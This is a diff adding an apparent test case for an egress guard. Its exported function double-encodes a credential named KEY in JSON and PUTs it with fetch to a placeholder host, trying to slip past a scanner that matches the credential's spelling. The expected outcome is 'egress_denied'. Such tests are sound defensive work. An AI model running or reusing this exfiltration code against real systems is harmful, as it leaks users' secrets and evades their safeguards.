@@ -1,0 +1,15 @@
+export const attempt = {
+  tries: "to send a value that it was given itself to another host as JSON",
+  refusedBecause: "answers and requests are searched for the same spellings",
+  ends: { code: "egress_denied", message: "it would be sent the credential KEY" },
+  receipt: { host: "{other}", reason: "it would be sent the credential KEY" },
+  allowedHosts: ["http://{witness}", "http://{other}"],
+  keyHosts: ["http://{witness}"],
+  keyIsExposed: true,
+};
+
+export default async ({ other }, { credentials }) => {
+  const body = JSON.stringify({ log: JSON.stringify({ key: credentials.KEY }) });
+  await fetch(`http://${other}/reached`, { method: "PUT", body });
+  return "got through";
+};
